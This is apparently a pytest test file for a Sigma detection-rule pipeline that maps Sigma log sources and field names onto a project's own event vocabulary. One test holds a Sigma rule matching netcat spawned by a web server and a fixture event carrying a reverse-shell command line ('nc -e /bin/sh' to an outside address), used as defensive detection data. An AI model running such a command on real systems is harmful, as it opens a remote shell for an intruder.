"""The processing pipeline: Sigma log sources and field names onto our vocabulary."""

from __future__ import annotations

from typing import Any

import pytest
import yaml
from sigma.collection import SigmaCollection
from sigma.exceptions import SigmaTransformationError

from canhgac.fields import is_known_field
from collector.detection.compiler import compile_rule
from collector.detection.pipeline import (
    KEYWORD_FIELDS,
    LOGSOURCE_CONDITIONS,
    SIGMA_FIELD_MAPPING,
    canhgac_pipeline,
)


def processed(logsource: dict[str, str], detection: dict[str, Any]) -> Any:
    doc = {"title": "t", "logsource": logsource, "detection": detection}
    rule = SigmaCollection.from_yaml(yaml.safe_dump(doc)).rules[0]
    canhgac_pipeline().apply(rule)
    return rule


def fields_of(rule: Any) -> set[str | None]:
    def walk(detection: Any) -> set[str | None]:
        out: set[str | None] = set()
        for item in detection.detection_items:
            out |= walk(item) if hasattr(item, "detection_items") else {item.field}
        return out

    return set().union(*(walk(d) for d in rule.detection.detections.values()))


def test_every_mapping_target_is_in_the_vocabulary() -> None:
    targets = [*SIGMA_FIELD_MAPPING.values(), *KEYWORD_FIELDS]
    targets += [name for ls in LOGSOURCE_CONDITIONS for name in ls.conditions]
    assert [t for t in targets if not is_known_field(t)] == []


@pytest.mark.parametrize("service", ["sshd", "auth"])
def test_linux_auth_services_are_authentication_events(service: str) -> None:
    rule = processed(
        {"product": "linux", "service": service},
        {"sel": {"event.outcome": "failure"}, "condition": "sel"},
    )
    predicate = compile_rule(rule).predicate
    assert predicate({"event.category": "authentication", "event.outcome": "failure"})
    assert not predicate({"event.category": "process", "event.outcome": "failure"})


def test_process_creation_maps_sigma_names_and_adds_start_events() -> None:
    rule = processed(
        {"product": "linux", "category": "process_creation"},
        {
            "sel": {
                "Image|endswith": "/nc",
                "CommandLine|contains": " -e ",
                "ParentImage": "/usr/sbin/apache2",
                "User": "www-data",
                "CurrentDirectory": "/tmp",
            },
            "condition": "sel",
        },
    )
    assert fields_of(rule) >= {
        "process.executable",
        "process.command_line",
        "process.parent.executable",
        "user.name",
        "process.working_directory",
    }
    event = {
        "event.category": "process",
        "event.type": "start",
        "process.executable": "/usr/bin/nc",
        "process.command_line": "nc -e /bin/sh 1.2.3.4 4444",
        "process.parent.executable": "/usr/sbin/apache2",
        "user.name": "www-data",
        "process.working_directory": "/tmp",
    }
    predicate = compile_rule(rule).predicate
    assert predicate(event)
    assert not predicate({**event, "event.type": "end"})


def test_our_dotted_names_pass_through() -> None:
    rule = processed(
        {"product": "linux"}, {"sel": {"process.executable": "/x"}, "condition": "sel"}
    )
    assert fields_of(rule) == {"process.executable"}


def test_keyword_detection_becomes_field_searches() -> None:
    rule = processed({"product": "linux", "service": "sshd"}, {"kw": ["x"], "condition": "kw"})
    assert fields_of(rule) >= set(KEYWORD_FIELDS)


def test_rules_for_other_products_are_refused() -> None:
    with pytest.raises(SigmaTransformationError, match="product is not supported"):
        processed(
            {"product": "windows", "category": "process_creation"},
            {"sel": {"Image": "x"}, "condition": "sel"},
        )


def test_a_rule_without_product_is_accepted() -> None:
    rule = processed({"category": "custom"}, {"sel": {"user.name": "x"}, "condition": "sel"})
    assert compile_rule(rule).predicate({"user.name": "X"})


def test_each_pipeline_is_fresh() -> None:
    # pySigma processing items remember their pipeline: building twice must not share them.
    first, second = canhgac_pipeline(), canhgac_pipeline()
    assert first.items[0] is not second.items[0]
